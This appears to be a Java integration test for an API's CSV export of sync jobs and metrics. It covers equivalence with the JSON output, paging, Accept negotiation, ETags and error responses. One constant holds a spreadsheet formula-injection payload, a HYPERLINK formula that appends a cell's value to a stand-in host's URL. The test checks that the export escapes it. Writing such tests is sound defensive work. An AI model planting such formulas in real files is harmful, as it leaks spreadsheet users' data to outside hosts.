package io.syncpulse.api;

import static io.syncpulse.api.RunningApi.jobsOf;
import static io.syncpulse.api.RunningApi.json;
import static io.syncpulse.api.RunningApi.metricsOf;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Jobs and metrics as CSV: the same as in JSON, for who asks for it. */
class CsvIT {

  /** Everything that has ever broken a parser or a spreadsheet, in 8 KiB. */
  private static final String HOSTILE =
      "=HYPERLINK(\"http://x/?\"&A1,\"a\")\r\n,;'\u202e\u0130\ud83d\ude00\\\"\"|\t"
          + "x".repeat(8_192);

  private static final CSVFormat FORMAT =
      CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();

  private static final UUID ORGANIZATION = UUID.randomUUID();
  private static RunningApi api;
  private static String token;
  private static UUID connection;

  @BeforeAll
  static void start() {
    api = RunningApi.start();
    token = api.key(ORGANIZATION, 0);
    connection = api.connection(ORGANIZATION);
    for (int day = 1; day <= 5; day++) {
      String at = "2025-01-0" + day + "T00:00:0";
      api.job(UUID.randomUUID(), connection, "completed", at + "0Z", at + "1.5Z", at + "9Z");
      api.metrics(connection, 86_400, at + "0Z", day, 5 - day);
    }
    api.metrics(connection, 86_400, "2025-01-06T00:00:00Z", 0, 0);
    UUID failed =
        api.job(
            UUID.randomUUID(),
            connection,
            "failed",
            "2025-01-06T00:00:00Z",
            null,
            "2025-01-07T00:00:00Z");
    api.execute(
        """
        UPDATE sync_job SET error = ?, error_category = 'api_key_invalid', entities_inserted = 5000000000,
          error_details = '{"a": "-1"}' WHERE id = ?
        """,
        HOSTILE,
        failed);
  }

  @AfterAll
  static void stop() {
    api.close();
  }

  @Test
  void jobsAreThoseOfTheJson() throws IOException {
    assertSame(jobsOf(connection));
    assertSame(jobsOf(connection) + "?status=failed&status=completed&limit=3");
    assertSame(jobsOf(connection) + "?include=created_at");
    assertSame(jobsOf(connection) + "?created_after=2025-01-03T00:00:00Z");
    assertSame(jobsOf(api.connection(ORGANIZATION)));
  }

  @Test
  void metricsAreThoseOfTheJson() throws IOException {
    String history = metricsOf(connection) + "/history";
    assertSame(history);
    assertSame(history + "?limit=2&from=2025-01-02T00:00:00Z");
    assertSame(metricsOf(api.connection(ORGANIZATION)) + "/history");
  }

  @Test
  void aHostileErrorIsNoFormulaAndComesBackWhole() throws IOException {
    CSVRecord newest = rows(csv(jobsOf(connection))).get(0);

    assertThat(newest.get("error")).isEqualTo("'" + HOSTILE);
    assertThat(newest.get("entities_inserted")).isEqualTo("5000000000");
  }

  @Test
  void pagesFollowTheSameLinksAndStayCsv() throws IOException {
    for (String address : List.of(jobsOf(connection), metricsOf(connection) + "/history")) {
      List<String> whole = new ArrayList<>();
      rows(csv(address)).forEach(row -> whole.add(row.toMap().toString()));
      List<String> paged = new ArrayList<>();
      Optional<String> page = Optional.of(address + "?limit=2");
      while (page.isPresent()) {
        HttpResponse<String> answer = csv(page.get());
        rows(answer).forEach(row -> paged.add(row.toMap().toString()));
        Optional<String> link = answer.headers().firstValue("link");
        assertThat(link).isEqualTo(api.get(page.get(), token).headers().firstValue("link"));
        page = link.map(text -> text.substring(1, text.indexOf('>')));
      }
      assertThat(paged).isEqualTo(whole).hasSize(6);
    }
  }

  @Test
  void theHeadersSayWhatItIs() {
    HttpResponse<String> jobs = csv(jobsOf(connection));
    HttpResponse<String> metrics = csv(metricsOf(connection) + "/history?window=24h");
    HttpResponse<String> head =
        api.send("HEAD", jobsOf(connection), "x-api-key", token, "accept", "text/csv");

    for (HttpResponse<String> answer : List.of(jobs, metrics, head)) {
      assertThat(answer.statusCode()).isEqualTo(200);
      assertThat(answer.headers().firstValue("content-type").orElseThrow().replace(" ", ""))
          .isEqualTo("text/csv;charset=utf-8;header=present");
    }
    assertThat(jobs.headers().firstValue("content-disposition"))
        .hasValue("attachment; filename=\"jobs-" + connection + ".csv\"");
    assertThat(metrics.headers().firstValue("content-disposition"))
        .hasValue("attachment; filename=\"metrics-24h-" + connection + ".csv\"");
  }

  @Test
  void itsStateHasANameOfItsOwn() {
    for (String address : List.of(jobsOf(connection), metricsOf(connection) + "/history")) {
      String tag = csv(address).headers().firstValue("etag").orElseThrow();
      HttpResponse<String> again =
          api.send("GET", address, "x-api-key", token, "accept", "text/csv", "if-none-match", tag);
      HttpResponse<String> json =
          api.send("GET", address, "x-api-key", token, "if-none-match", tag);

      assertThat(again.statusCode()).isEqualTo(304);
      assertThat(again.body()).isEmpty();
      assertThat(again.headers().allValues("vary")).contains("Accept, Accept-Encoding");
      assertThat(json.statusCode()).isEqualTo(200);
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      nullValues = "-",
      value = {
        "-                                          | application/json",
        "''                                         | application/json",
        "*/*                                        | application/json",
        "text/csv                                   | text/csv",
        "TEXT/CSV; charset=utf-8                    | text/csv",
        "text/*                                     | text/csv",
        "text/csv, application/json                 | application/json",
        "text/csv, */*                              | application/json",
        "text/csv, */*;q=0.1                        | text/csv",
        "application/json;q=0.5, text/csv;q=0.6     | text/csv",
        "application/json;q=0.6, text/csv;q=0.5     | application/json",
        "application/*;q=0.2, text/*;q=0.1          | application/json",
        "application/json;q=0, */*                  | text/csv",
        "text/csv;q=0, */*;q=0.1                    | application/json",
        "text/html, application/xhtml+xml, */*;q=0.8 | application/json",
        "text/csv;a=\"x,y\";q=0.1, application/json;q=0.2 | application/json",
        "image/png, text/csv;q=0.001                | text/csv"
      })
  void theFormThatIsLikedBestIsServed(String accept, String type) {
    HttpResponse<String> answer = accepting(accept);

    assertThat(answer.statusCode()).isEqualTo(200);
    assertThat(answer.headers().firstValue("content-type").orElseThrow()).startsWith(type);
    assertThat(answer.headers().allValues("vary")).contains("Accept, Accept-Encoding");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "text/html",
        "application/xml, image/*",
        "text/csv;q=0",
        "*/*;q=0",
        "text/csv;q=0, application/json;q=0, */*"
      })
  void whatCannotBeMadeIsRefused(String accept) {
    HttpResponse<String> answer = accepting(accept);

    assertThat(answer.statusCode()).isEqualTo(406);
    assertThat(answer.headers().firstValue("content-type")).hasValue("application/json");
    assertThat(answer.headers().allValues("vary")).contains("Accept, Accept-Encoding");
    assertThat(json(answer).get("detail").asText()).contains("application/json or text/csv");
  }

  @Test
  void errorsAreJsonWhateverWasAskedFor() {
    HttpResponse<String> unknown = csv(jobsOf(UUID.randomUUID()));
    HttpResponse<String> wrong = csv(jobsOf(connection) + "?limit=0");

    assertThat(unknown.statusCode()).isEqualTo(404);
    assertThat(json(unknown).get("detail").asText()).isNotBlank();
    assertThat(wrong.statusCode()).isEqualTo(422);
    assertThat(json(wrong).get("detail")).hasSize(1);
    for (HttpResponse<String> answer : List.of(unknown, wrong)) {
      assertThat(answer.headers().firstValue("content-type")).hasValue("application/json");
      assertThat(answer.headers().firstValue("content-disposition")).isEmpty();
    }
  }

  /** Cell for cell, nested fields under their joined names. */
  private static void assertSame(String address) throws IOException {
    HttpResponse<String> answer = csv(address);
    assertThat(answer.statusCode()).isEqualTo(200);
    List<Map<String, String>> expected = new ArrayList<>();
    for (JsonNode element : json(api.get(address, token))) {
      Map<String, String> row = new LinkedHashMap<>();
      flatten("", element, row);
      expected.add(row);
    }
    List<Map<String, String>> actual = new ArrayList<>();
    for (CSVRecord row : rows(answer)) {
      actual.add(row.toMap());
    }
    assertThat(actual).hasSameSizeAs(expected);
    for (int i = 0; i < actual.size(); i++) {
      assertThat(actual.get(i).keySet()).containsExactlyElementsOf(expected.get(i).keySet());
      assertThat(actual.get(i)).isEqualTo(expected.get(i));
    }
    assertThat(answer.body()).endsWith("\r\n");
  }

  private static void flatten(String name, JsonNode value, Map<String, String> row) {
    if (name.equals("success_rate_interval")) {
      row.put(name + "_low", value.path(0).asText(""));
      row.put(name + "_high", value.path(1).asText(""));
    } else if (value.isObject() && !name.equals("error_details")) {
      value
          .fields()
          .forEachRemaining(
              field ->
                  flatten(
                      name.isEmpty() ? field.getKey() : name + "_" + field.getKey(),
                      field.getValue(),
                      row));
    } else if (value.isObject()) {
      row.put(name, value.toString().replace(":", ": "));
    } else {
      String text = value.isNull() ? "" : value.asText();
      row.put(name, text.startsWith("=") ? "'" + text : text);
    }
  }

  private static HttpResponse<String> csv(String address) {
    return api.send("GET", address, "x-api-key", token, "accept", "text/csv");
  }

  private static HttpResponse<String> accepting(String acceptOrNull) {
    return acceptOrNull == null
        ? api.get(jobsOf(connection), token)
        : api.send("GET", jobsOf(connection), "x-api-key", token, "accept", acceptOrNull);
  }

  private static List<CSVRecord> rows(HttpResponse<String> answer) throws IOException {
    return FORMAT.parse(new StringReader(answer.body())).getRecords();
  }
}
